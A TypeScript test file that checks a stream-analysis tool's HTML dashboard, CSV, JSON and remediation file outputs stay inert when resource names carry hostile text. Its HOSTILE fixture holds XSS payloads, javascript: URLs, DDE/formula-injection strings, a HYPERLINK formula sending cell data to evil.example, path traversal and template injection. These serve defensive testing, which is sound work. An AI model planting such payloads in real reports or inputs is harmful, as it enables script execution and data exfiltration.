/**
 * Report safety: names and tag values are attacker-controlled text (anyone who can create a stream,
 * a consumer or a tag, or hand-edit a snapshot). Planted with HTML, script, quotes, formula prefixes
 * and newlines, they must stay inert in every report: no script runs in the dashboard (headless
 * Chromium), no formula in the CSV, no path escape in the remediation file names, exact text in JSON.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, sep } from "node:path";
import { pathToFileURL } from "node:url";
import { parse as parseCsv } from "csv-parse/sync";
import type { Browser, Page } from "playwright-core";
import { launchChromium } from "../harness/chromium";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { analyzeSnapshot } from "../../live-checks/analyze";
import { defaultConfig } from "../../live-checks/config-file";
import { neutralizeFormula } from "../../live-checks/report/csv-safe";
import { writeReports } from "../../live-checks/report/write-reports";
import type { Snapshot } from "../../live-checks/snapshot";
import { fixtureSnapshot } from "../fixtures/analysis/fleet";


/** Each payload tries a different way to run code; all of them set window.__pwned. */
const HOSTILE = {
  stream: `=cmd|' /C calc'!A0<script>window.__pwned=1</script>"x'\n<img src=x onerror="window.__pwned=2">`,
  consumer: `=HYPERLINK("http://evil.example/?"&A1,"open")<svg onload="window.__pwned=3">`,
  deliveryStream: `+1+cmd|' /C calc'!A0</td></tr></table><iframe src="javascript:window.__pwned=4"></iframe>`,
  broken: `@SUM(1+1)\r\n-2+3<a href="javascript:window.__pwned=5">x</a>../../../../tmp/escape`,
  skipped: `-2+3\t<style>body{display:none}</style><object data="javascript:window.__pwned=6">`,
  tagValue: `line1\nline2</td><script>window.__pwned=7</script>{{constructor.constructor('window.__pwned=8')()}}`,
  errorMessage: `AccessDenied <script>window.__pwned=9</script> "quoted" 'single'`,
};

/** Rename a resource everywhere in the fixture: JSON values and metric-id dimensions. */
function rename(json: string, from: string, to: string, dimension: string): string {
  return json
    .split(JSON.stringify(from))
    .join(JSON.stringify(to))
    .split(`${dimension}=${from}`)
    .join(`${dimension}=${JSON.stringify(to).slice(1, -1)}`)
    .split(`/${from}`)
    .join(`/${JSON.stringify(to).slice(1, -1)}`);
}

function hostileSnapshot(): Snapshot {
  let json = JSON.stringify(fixtureSnapshot());
  json = rename(json, "telemetry", HOSTILE.stream, "StreamName");
  json = rename(json, "analytics", HOSTILE.consumer, "ConsumerName");
  json = rename(json, "clicks-to-s3", HOSTILE.deliveryStream, "DeliveryStreamName");
  json = rename(json, "broken", HOSTILE.broken, "StreamName");
  json = rename(json, "test-orders", HOSTILE.skipped, "StreamName");
  const snap = JSON.parse(json) as Snapshot;
  return {
    ...snap,
    streams: snap.streams.map((s) => ({ ...s, tags: { ...(s.tags as Record<string, string>), Owner: HOSTILE.tagValue, [HOSTILE.tagValue]: "key-too" } })),
    collection: {
      ...snap.collection,
      complete: false,
      errors: [...snap.collection.errors, { api: "Kinesis.ListTagsForStream", region: "us-east-1", resource: `stream/${HOSTILE.broken}`, message: HOSTILE.errorMessage }],
    },
  };
}

const dir = mkdtempSync(join(tmpdir(), "kg-safety-"));
const out = join(dir, "out");
let browser: Browser;
let page: Page;
const pageErrors: string[] = [];
const external: string[] = [];

beforeAll(async () => {
  const snap = hostileSnapshot();
  await writeReports(analyzeSnapshot(snap, defaultConfig()), { outDir: out });
  browser = await launchChromium();
  page = await browser.newPage();
  page.on("pageerror", (e) => pageErrors.push(e.message));
  page.on("dialog", (d) => {
    pageErrors.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith("file://")) return route.continue();
    external.push(url);
    return route.abort();
  });
  await page.goto(pathToFileURL(join(out, "throughput_utilization_dashboard.html")).href, { waitUntil: "load" });
  // Give any injected handler (onload/onerror) a chance to fire.
  await page.evaluate("new Promise((r) => setTimeout(r, 100))");
});

afterAll(async () => {
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("dashboard (headless Chromium)", () => {
  it("runs no script and loads nothing: no handler fired, no active element injected", async () => {
    expect(await page.evaluate("typeof window.__pwned")).toBe("undefined");
    expect(pageErrors).toEqual([]);
    expect(external).toEqual([]);
    for (const tag of ["script", "img", "svg", "iframe", "object", "a", "style:not(head style)"]) {
      expect(await page.locator(tag).count(), tag).toBe(0);
    }
    // Every element of the page comes from the template: count tags against a clean render's.
    const body = await page.locator("body").innerHTML();
    expect(body).not.toMatch(/<(script|img|svg|iframe|object)\b/i);
  });

  it("shows every hostile string as text, exactly", async () => {
    const text = (await page.locator("body").textContent()) ?? "";
    const norm = (s: string) => s.replace(/\s+/g, " ");
    for (const [k, v] of Object.entries(HOSTILE)) {
      if (k === "tagValue") continue; // tag values are not shown on the dashboard
      expect(norm(text), k).toContain(norm(v));
    }
  });
});

describe("consumer_lag_report.csv", () => {
  const csvText = () => readFileSync(join(out, "consumer_lag_report.csv"), "utf8");

  it("stays one row per consumer with five cells, names quoted through newlines and quotes", () => {
    const rows = parseCsv(csvText(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(Object.keys(rows[0]!)).toEqual(["stream_name", "consumer_name", "max_lag_ms", "avg_lag_ms", "flagged"]);
    // The exact name survives behind the neutralizing apostrophe.
    expect(rows[0]!.stream_name).toBe(`'${HOSTILE.stream}`);
    expect(rows[0]!.consumer_name).toBe(`'${HOSTILE.consumer}`);
    expect(rows[0]!.max_lag_ms).toBe("12000");
  });

  it("has no cell a spreadsheet would evaluate as a formula", () => {
    const cells = (parseCsv(csvText()) as string[][]).flat();
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralizes each formula prefix and leaves other text alone", () => {
    expect(["=1", "+1", "-1", "@A1", "\t=1", "\r=1"].map(neutralizeFormula)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]);
    expect(["orders", "a=1", "x-1", ""].map(neutralizeFormula)).toEqual(["orders", "a=1", "x-1", ""]);
  });
});

describe("JSON reports and remediation stubs", () => {
  it("kinesis_analysis.json parses and keeps the exact names (no neutralizing in JSON)", () => {
    const report = JSON.parse(readFileSync(join(out, "kinesis_analysis.json"), "utf8")) as { data_streams: { stream_name: string; tags: Record<string, string> }[]; skipped: { name: string }[] };
    expect(report.data_streams.map((s) => s.stream_name)).toContain(HOSTILE.stream);
    expect(report.data_streams.find((s) => s.stream_name === HOSTILE.stream)!.tags.Owner).toBe(HOSTILE.tagValue);
    expect(report.skipped.map((s) => s.name)).toContain(HOSTILE.skipped);
    JSON.parse(readFileSync(join(out, "shard_optimization_plan.json"), "utf8"));
  });

  it("writes every file inside --out, with names built from safe characters only", () => {
    const root = realpathSync(out);
    const walk = (d: string): string[] => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));
    const files = walk(out);
    expect(files.length).toBeGreaterThan(5);
    for (const f of files) {
      expect(realpathSync(f).startsWith(root + sep), f).toBe(true);
      expect(f.slice(out.length + 1), f).toMatch(/^(remediation\/)?[A-Za-z0-9_][A-Za-z0-9._-]*$/);
    }
    expect(existsSync(join(dir, "tmp", "escape"))).toBe(false);
    // No temp files left behind by the atomic writes.
    expect(files.filter((f) => /\.tmp$|\.old$/.test(f))).toEqual([]);
  });
});
